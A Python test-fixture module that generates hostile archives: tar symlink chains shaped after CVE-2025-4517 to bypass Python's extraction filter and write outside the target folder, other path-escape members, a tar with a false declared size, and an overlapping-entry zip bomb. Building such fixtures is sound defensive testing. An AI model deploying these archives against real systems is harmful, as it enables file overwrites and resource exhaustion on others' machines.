"""Hostile archives for tests, generated on the fly: tar link tricks (CVE-2025-4517 shape),
path escapes, devices, declared sizes, and zips whose entries overlap (one compressed kernel
referenced by many entries, Fifield's "quoted overlap")."""

from __future__ import annotations

import io
import struct
import tarfile
import zlib
from pathlib import Path


def tar_bytes(members: list[tuple[tarfile.TarInfo, bytes | None]], *, gz: bool = False) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz" if gz else "w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def member(name: str, kind: bytes = tarfile.REGTYPE, *, link: str = "", data: bytes | None = None):  # type: ignore[no-untyped-def]
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    if kind == tarfile.REGTYPE and data is None:
        data = b"pwned\n"
    return info, data


def cve_2025_4517(up: int, then: str) -> list[tuple[tarfile.TarInfo, bytes | None]]:
    """Symlinks nested past PATH_MAX so that `os.path.realpath` (and with it Python 3.11.7's
    `filter="data"`) stops resolving; a symlink `escape` that the filter reads as staying
    inside (`up` levels of `..` after 17 unresolved components) but that really leads `up`
    levels above the extraction folder and on to `then`; a regular file written through it."""
    component = "d" * 247
    steps = "abcdefghijklmnop"
    members = []
    path = ""
    for step in steps:
        members.append(member(f"{path}{component}", tarfile.DIRTYPE))
        members.append(member(f"{path}{step}", tarfile.SYMTYPE, link=component))
        path = f"{path}{component}/"
    deep = "/".join(steps) + "/" + "l" * 254
    members.append(member(deep, tarfile.SYMTYPE, link="../" * len(steps)))
    assert up <= len(steps)
    members.append(member("escape", tarfile.SYMTYPE, link=f"{deep}{'/..' * up}/{then}"))
    members.append(member("escape/pwned.txt"))
    return members


def declared_size_tar(size: int) -> bytes:
    """One member whose header claims `size` bytes (the data is not there)."""
    info = tarfile.TarInfo("model/model.bin")
    info.size = size
    return info.tobuf(format=tarfile.PAX_FORMAT) + b"\0" * 1024


# -- zips ---------------------------------------------------------------------------------------

_LOCAL = struct.Struct("<IHHHHHIIIHH")
_CENTRAL = struct.Struct("<IHHHHHHIIIHHHHHII")
_END = struct.Struct("<IHHHHIIH")


def _local(name: bytes, method: int, crc: int, csize: int, usize: int) -> bytes:
    return _LOCAL.pack(0x04034B50, 20, 0, method, 0, 0x21, crc, csize, usize, len(name), 0) + name


def _central(name: bytes, method: int, crc: int, csize: int, usize: int, offset: int) -> bytes:
    return _CENTRAL.pack(0x02014B50, 20, 20, 0, method, 0, 0x21, crc, csize, usize, len(name), 0,
                         0, 0, 0, 0o100644 << 16, offset) + name  # fmt: skip


def overlapping_zip(
    path: Path, normal: list[tuple[str, bytes]], overlap_names: list[str], kernel: bytes
) -> Path:
    """`normal` entries stored as usual, then `overlap_names` entries that all share one
    deflated `kernel`: entry i's compressed data quotes entry i+1's local header in a stored
    block and runs on into it, so each entry unpacks to (headers + kernel) while the archive
    holds the kernel once."""
    out = bytearray()
    central = []
    for name, data in normal:
        raw = name.encode()
        central.append(_central(raw, 0, zlib.crc32(data), len(data), len(data), len(out)))
        out += _local(raw, 0, zlib.crc32(data), len(data), len(data)) + data
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = compressor.compress(kernel) + compressor.flush()
    names = [n.encode() for n in overlap_names]
    # From the last entry back: each entry's content is the next header plus the next content.
    headers: list[bytes] = [b""] * len(names)
    sizes: list[tuple[int, int, int]] = [(0, 0, 0)] * len(names)
    content_crc, usize, csize = zlib.crc32(kernel), len(kernel), len(deflated)
    for i in range(len(names) - 1, -1, -1):
        if i < len(names) - 1:
            quoted = headers[i + 1]
            content_crc = zlib.crc32(kernel, _crc_of_prefix(headers[i + 1 :]))
            usize += len(quoted)
            csize += 5 + len(quoted)
        headers[i] = _local(names[i], 8, content_crc, csize, usize)
        sizes[i] = (content_crc, csize, usize)
    for i, header in enumerate(headers):
        crc, c, u = sizes[i]
        central.append(_central(names[i], 8, crc, c, u, len(out)))
        out += header
        if i < len(headers) - 1:
            following = headers[i + 1]
            out += b"\x00" + struct.pack("<HH", len(following), len(following) ^ 0xFFFF)
    out += deflated
    directory = b"".join(central)
    out += directory + _END.pack(0x06054B50, 0, 0, len(central), len(central), len(directory),
                                 len(out), 0)  # fmt: skip
    path.write_bytes(bytes(out))
    return path


def _crc_of_prefix(headers: list[bytes]) -> int:
    crc = 0
    for header in headers:
        crc = zlib.crc32(header, crc)
    return crc
